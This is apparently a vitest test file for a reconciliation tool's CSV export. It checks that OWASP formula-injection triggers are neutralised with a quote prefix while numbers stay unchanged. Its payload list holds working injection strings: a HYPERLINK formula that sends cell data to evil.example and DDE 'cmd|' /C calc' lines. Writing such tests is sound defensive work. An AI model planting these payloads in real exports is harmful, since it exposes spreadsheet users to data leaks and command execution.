/**
 * Issue 13 item 3: CSV exports neutralise formula triggers (OWASP) in values, header names and
 * review annotations; numbers stay numbers; `csv_formulas: 'raw'` writes the values unchanged.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { copyCsv, neutraliseCell } from '../../../src/main/reconcile/engine/csv-guard';
import { Db, WIDE_STATEMENT_COLUMNS } from '../../../src/main/reconcile/engine/db';
import { csv, recipe, refRule, sandbox, type Sandbox } from './helpers';

let sb: Sandbox;
beforeEach(() => {
  sb = sandbox();
});
afterEach(() => sb.cleanup());

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1', '+1+1'];

describe('neutraliseCell', () => {
  it.each(PAYLOADS)('prefixes %j with a quote', (p) => {
    expect(neutraliseCell(p)).toBe(`'${p}`);
  });
  it.each(['-12.50', '-1.234,56', '+100', '-0', '12', 'Miete Januar', "'=already", ' =x', ''])('leaves %j alone (a number or plain text)', (v) => {
    expect(neutraliseCell(v)).toBe(v);
  });
});

/** Minimal RFC 4180 reader that also reports whether each field was quoted. */
function readCsv(text: string): Array<Array<{ v: string; quoted: boolean }>> {
  const rows: Array<Array<{ v: string; quoted: boolean }>> = [];
  let row: Array<{ v: string; quoted: boolean }> = [];
  let i = 0;
  while (i < text.length) {
    let v = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          v += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else v += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n') v += text[i++];
    }
    row.push({ v, quoted });
    if (text[i] === ',') i++;
    else {
      rows.push(row);
      row = [];
      i++;
    }
  }
  return rows;
}

async function exported(mode?: 'raw') {
  const ws = await sb.workspace();
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const header = 'ref,amount,date,memo,@evil_header';
  const left = PAYLOADS.map((p, i) => `R${i},-12.50,2024-01-0${(i % 9) + 1},${quote(p)},x`);
  await ws.addSourceFromPath('left', sb.file('l.csv', csv(header, ['A,100.00,2024-01-01,ok,y', ...left])));
  await ws.addSourceFromPath('right', sb.file('r.csv', csv('ref,amount,date,memo', ['A,90.00,2024-01-01,=2+2'])));
  const { run_id } = await ws.run(recipe([refRule('exact')]));
  await ws.annotate(run_id, 'left', 1, { reason: 'other', note: '=HYPERLINK("http://evil.example")' });
  const dir = sb.mkdir('out');
  await ws.export(run_id, { dir, formats: ['csv'], ...(mode ? { csv_formulas: mode } : {}) });
  return { dir, read: (f: string) => readFileSync(join(dir, f), 'utf8') };
}

describe('CSV export', () => {
  it('neutralises values, header names and annotations, quotes them, and keeps numbers as numbers', async () => {
    const { read } = await exported();
    const unmatched = readCsv(read('unmatched_left.csv'));
    expect(unmatched[0].map((f) => f.v)).toEqual(['recon_row_id', 'recon_line', 'ref', 'amount', 'date', 'memo', "'@evil_header"]);
    const memos = unmatched.slice(1).map((r) => r[5]);
    expect(memos.map((m) => m.v)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(memos.every((m) => m.quoted)).toBe(true);
    // -12.50 from the file is a number, not a formula: unchanged.
    expect(unmatched.slice(1).every((r) => r[3].v === '-12.50')).toBe(true);
    // No field of any CSV starts with a trigger.
    for (const f of ['matched.csv', 'suggested.csv', 'exceptions_left.csv', 'exceptions_right.csv', 'unmatched_left.csv', 'unmatched_right.csv', 'summary.csv']) {
      for (const row of readCsv(read(f))) for (const cell of row) expect(/^[=+@\t\r]/.test(cell.v) || /^-(?![\d.,]+$)/.test(cell.v), `${f}: ${JSON.stringify(cell.v)}`).toBe(false);
    }
    const exceptions = readCsv(read('exceptions_left.csv'));
    const note = exceptions[0].findIndex((f) => f.v === 'recon_annotation_note');
    expect(exceptions[1][note]).toEqual({ v: `'=HYPERLINK("http://evil.example")`, quoted: true });
    expect(readCsv(read('exceptions_right.csv'))[1].at(-1)).toEqual({ v: "'=2+2", quoted: true });
    // Numeric columns of the engine stay numbers.
    expect(exceptions[1][exceptions[0].findIndex((f) => f.v === 'recon_amount_delta')].v).toMatch(/^-?\d+\.\d+$/);
  });

  it('writes the values unchanged with csv_formulas: raw', async () => {
    const { read } = await exported('raw');
    const unmatched = readCsv(read('unmatched_left.csv'));
    expect(unmatched[0].at(-1)?.v).toBe('@evil_header');
    expect(unmatched.slice(1).map((r) => r[5].v)).toEqual(PAYLOADS);
  });
});

describe('CSV export of a wide table', () => {
  it('finds the columns to neutralise with one unpivoted probe expression, and writes what the per-column probe wrote', async () => {
    // Issue 27: one regexp per text column took 1.2 s CPU to plan at 10,000 columns.
    const width = WIDE_STATEMENT_COLUMNS + 20;
    const value = (r: number, i: number) => (i === 7 && r === 1 ? PAYLOADS[0]! : i === width - 5 && r === 2 ? '+1+1' : i === 9 && r === 0 ? '-12.50' : `v${r}_${i}`);
    const db = await Db.open(':memory:');
    const probes: string[] = [];
    try {
      const cols = Array.from({ length: width }, (_, i) => `c${i} VARCHAR`);
      await db.exec(`CREATE TEMP TABLE t (n INTEGER, ${cols.join(', ')})`);
      for (let r = 0; r < 3; r++) await db.exec(`INSERT INTO t VALUES (${r}, ${Array.from({ length: width }, (_, i) => `'${value(r, i).replace(/'/g, "''")}'`).join(', ')})`);
      const all = db.all.bind(db);
      db.all = ((q: string, p?: never) => (/regexp_matches\(/.test(q) && probes.push(q), all(q, p))) as typeof db.all;
      const target = join(sb.dir, 'wide.csv');
      await copyCsv(db, 'SELECT * FROM temp.t', target, true);
      const rows = readCsv(readFileSync(target, 'utf8'));
      expect(rows).toHaveLength(4);
      // Columns with a trigger are quoted throughout; the payload is prefixed, the number left as it is.
      const guarded = new Set([7, 9, width - 5]);
      for (let r = 0; r < 3; r++) {
        for (let i = 0; i < width; i++) {
          const v = value(r, i);
          expect(rows[r + 1]![i + 1]).toEqual({ v: neutraliseCell(v), quoted: guarded.has(i) });
        }
      }
      expect(rows[2]![8]!.v).toBe(`'${PAYLOADS[0]}`);
      expect(probes).toHaveLength(1);
      expect(probes[0]!.split('regexp_matches(').length - 1).toBe(1);
      // The values are unpivoted into rows, not gathered into a list per row: the list and its
      // lambda planned 1.75 s CPU for 6,241 text columns (issue 27).
      expect(probes[0]).toMatch(/UNPIVOT \(SELECT/);
      expect(probes[0]).not.toMatch(/list_transform/);
    } finally {
      db.close();
    }
  });
});
